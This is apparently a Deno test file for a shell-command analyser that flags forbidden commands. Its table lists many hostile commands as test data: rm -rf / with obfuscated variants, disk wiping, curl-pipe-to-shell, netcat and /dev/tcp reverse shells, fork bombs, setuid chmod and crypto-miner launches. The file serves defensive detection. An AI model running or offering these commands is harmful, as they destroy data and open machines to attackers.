import { assertEquals } from "@std/assert";

import { analyseCommand } from "../../../../../../runtime/programs/shell/analyse_command.ts";
import { RULE_NAMES } from "../../../../../../runtime/programs/shell/judge/broken_rules.ts";

type Written = string | readonly string[];

/** A list is a program with its arguments, a text is a script for a shell. */
async function rulesFor(written: Written): Promise<readonly string[]> {
  const command = typeof written === "string" ? { script: written, shell: "bash" } : { argv: written };
  return (await analyseCommand(command)).rules;
}

/** Splits at blanks, as a caller without a shell would. */
function argv(text: string): string[] {
  return text.split(" ");
}

const CAUGHT: Record<string, readonly Written[]> = {
  "rm-rf-root": [
    argv("rm -rf /"),
    argv("rm -fr /"),
    argv("rm -r -f /"),
    argv("rm -rf -- /"),
    argv("rm -Rf /"),
    argv("rm --recursive --force /"),
    argv("rm --rec --for /"),
    argv("rm -rf --no-preserve-root /"),
    argv("rm -rf /*"),
    argv("rm -rf //"),
    argv("rm -rf /./"),
    argv("rm -rf /tmp/.."),
    argv("/bin/rm -rf /"),
    argv("rm / -rf"),
    argv("env A=1 rm -rf /"),
    argv("nice -n 5 timeout -k 1 9 rm -rf /"),
    argv("xargs rm -rf /"),
    argv("find . -exec rm -rf / ;"),
    argv("busybox rm -rf /"),
    ["bash", "-c", "rm -rf /"],
    ["sh", "-ec", "echo hi; rm -rf /"],
    ["bash", "--norc", "-lc", "true && rm -rf /"],
    "rm -rf /",
    "rm -rf /*",
    'r""m -rf "/"',
    "X=rm; $X -rf /",
    "cd / && rm -rf *",
    "(cd /tmp; rm -rf /)",
    "if true; then rm -rf /; fi",
    "for i in 1; do rm -rf /; done",
    "f() { rm -rf /; }; f",
    "echo $(rm -rf /)",
    "echo rm -rf / | sh",
    "bash <<< 'rm -rf /'",
    "bash <<'END'\nrm -rf /\nEND\n",
    "eval 'rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "alias ll='rm -rf'; ll /",
    "nohup rm -rf / &",
    "\\rm -rf /",
    "rm -rf {/,x}",
    "$'\\x72m' -rf /",
    "rm${IFS}-rf${IFS}/",
  ],
  "rm-rf-home": [
    argv("rm -rf ~"),
    argv("rm -fr ~"),
    argv("rm -rf ~/"),
    argv("rm -rf ~/*"),
    argv("rm -rf ~root"),
    argv("rm -rf $HOME"),
    'rm -rf "$HOME"',
    'rm -rf "${HOME}"/',
    "rm -rf $HOME/*",
    "cd; rm -rf *",
  ],
  "dd-zero-disk": [
    argv("dd if=/dev/zero of=/dev/sda"),
    argv("dd of=/dev/hda"),
    argv("dd of=/dev/nvme0n1"),
    argv("dd of=/dev/vda1 bs=1M"),
    argv("dd of=/dev/mmcblk0"),
    argv("dd of=/dev/xvda"),
    argv("dd of=/dev/loop0"),
    argv("dd of=/dev/disk/by-id/x"),
    argv("dd of=/dev/mapper/root"),
    argv("dd of=/dev//sda"),
    argv("cp image /dev/sdb"),
    argv("tee /dev/sda"),
    "cat image > /dev/sda",
  ],
  mkfs: ["mkfs.ext4 /dev/sda", "mkfs /dev/sda", "mke2fs x", "mkswap x", "wipefs -a x", "blkdiscard x"].map(
    argv,
  ),
  fdisk: ["fdisk /dev/sda", "sfdisk x", "parted x", "sgdisk -Z x", "/sbin/fdisk -l"].map(argv),
  shutdown: ["shutdown now", "poweroff", "systemctl poweroff", "/sbin/shutdown -h now"].map(argv),
  reboot: ["reboot", "systemctl reboot", "init 6"].map(argv),
  halt: ["halt", "systemctl halt"].map(argv),
  "init-0": ["init 0", "init 6", "telinit 0"].map(argv),
  sudo: [
    argv("sudo ls"),
    argv("/usr/bin/sudo x"),
    argv("env sudo x"),
    ["bash", "-c", "sudo x"],
    ["sudo"],
    "sudo -nu root ls",
  ],
  "su-dash": ["su -", "su - root", "su root", "su", "su -c ls"].map(argv),
  doas: ["doas ls", "pkexec ls", "run0 ls"].map(argv),
  "curl-pipe-sh": [
    ["bash", "-c", "curl u | sh"],
    "curl u | sh",
    "curl -fsSL https://x/i.sh | bash -s -- --yes",
    "curl u | sudo bash",
    "curl u | tee f | sh",
    "curl u | python3",
    "curl u | python3 -",
    "curl u | perl",
    "curl u > >(sh)",
    "curl u | { bash; }",
    "curl u | xargs -I{} sh -c {}",
    "bash <(curl u)",
    "bash < <(curl u)",
    "source <(curl u)",
    'sh -c "$(curl u)"',
    'bash <<< "$(curl u)"',
    'eval "$(curl u)"',
    "$(curl u)",
    "curl u\\\n| sh",
    "python3 <(curl u)",
  ],
  "wget-pipe-sh": [
    "wget -qO- u | sh",
    "bash <(wget -qO- u)",
    'sh -c "$(wget -qO- u)"',
    "wget -O - u | perl",
  ],
  "nc-exec": [
    argv("nc -e /bin/sh h 1"),
    argv("ncat -e /bin/sh h 1"),
    argv("nc -lvp 1 -e /bin/sh"),
    argv("nc -c sh h 1"),
    argv("ncat --exec /bin/sh h 1"),
    argv("socat TCP:h:1 EXEC:sh"),
  ],
  "bash-reverse": [
    argv("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "exec 3<>/dev/udp/10.0.0.1/53",
    'echo x > "/dev/tcp/$H/80"',
    "cat < /dev/tcp/h/1",
  ],
  "fork-bomb": [
    ":(){ :|:& };:",
    ":(){:|:&};:",
    ["bash", "-c", ":(){ :|:& };:"],
    [":(){:|:&};:"],
    "f() { f | f & }; f",
    "bomb() {\n  bomb &\n  bomb &\n}\nbomb",
  ],
  "chmod-777-root": [
    argv("chmod 777 /"),
    argv("chmod -R 777 /"),
    argv("chmod 0777 /"),
    argv("chmod a+rwx /"),
    argv("chmod --recursive 777 /"),
    argv("chmod +rwx /"),
    argv("chmod -R 777 /*"),
  ],
  "chmod-suid": [
    argv("chmod 4755 /usr/local/bin/x"),
    argv("chmod u+s x"),
    argv("chmod g+s x"),
    argv("chmod 2755 x"),
    argv("chmod 6755 x"),
    argv("chmod a+x,u+s x"),
    argv("install -m 4755 a b"),
  ],
  "chown-recursive": [
    argv("chown -R root /"),
    argv("chown -R me:me /etc"),
    argv("chown --recursive root /srv"),
    argv("chown -hR root ~"),
    argv("chown -R me ../other"),
  ],
  "bash-eval": [
    argv("eval $X"),
    ["eval", "$(curl u)"],
    ["bash", "-c", 'eval "$X"'],
    'eval "$X"',
    "eval $X",
    "eval '$X'",
    'eval "$(printf "%s" ls)"',
  ],
  "backtick-subst": [["bash", "-c", "`id`"], "`curl u`", "eval `id`", 'sh -c "`id`"', "`echo rm` x"],
  "dollar-paren": [
    ["bash", "-c", "$(id)"],
    "$(curl u)",
    'eval "$(id)"',
    'sh -c "$(id)"',
    "$(echo rm) x",
  ],
  "mount-bind": [
    argv("mount --bind a b"),
    argv("mount -o bind a b"),
    argv("mount -o ro,bind a b"),
    argv("mount -B a b"),
    argv("mount --rbind a b"),
  ],
  "umount-force": [argv("umount -f x"), argv("umount -lf x"), argv("umount --force x")],
  xmrig: [argv("xmrig -o pool"), argv("./xmrig"), "nohup ./xmrig &"],
  minerd: [argv("minerd -a x"), argv("cpuminer x"), argv("./ethminer x")],
  "stratum-tcp": [argv("./m -o stratum+tcp://pool:1"), argv("./m -o stratum+ssl://pool:1")],
  "kill-init": [
    argv("kill -9 1"),
    argv("kill -KILL 1"),
    argv("kill -SIGKILL 1"),
    argv("kill -s 9 1"),
    argv("kill -s KILL 1"),
    argv("kill -9 -1"),
    argv("kill -9 7 1"),
  ],
  "pkill-broad": [argv("pkill -9 -f x"), argv("pkill -f -9 x"), argv("pkill -KILL -f x")],
  "killall-broad": [argv("killall -9 x"), argv("killall -KILL x"), argv("killall -s 9 x")],
};

Deno.test("analyseCommand() names the rule that forbids a command", async () => {
  assertEquals(Object.keys(CAUGHT).sort(), [...RULE_NAMES].sort());
  for (const [rule, commands] of Object.entries(CAUGHT)) {
    for (const written of commands) {
      const rules = await rulesFor(written);
      assertEquals(rules.includes(rule), true, `${rule}: ${JSON.stringify(written)} gave ${rules}`);
    }
  }
});

Deno.test("analyseCommand() lists several rules in the order of the table", async () => {
  assertEquals(await rulesFor("sudo rm -rf / ~; shutdown now"), [
    "rm-rf-root",
    "rm-rf-home",
    "shutdown",
    "sudo",
  ]);
});

Deno.test("analyseCommand() looks for rules in a typed line without minding errors", async () => {
  const broken = await analyseCommand({ script: "rm -rf / 'unfinished", shell: "bash", typed: true });
  assertEquals(broken.rules, ["rm-rf-root"]);
  assertEquals((await analyseCommand({ script: "it's fine", shell: "bash", typed: true })).opaque, []);
});
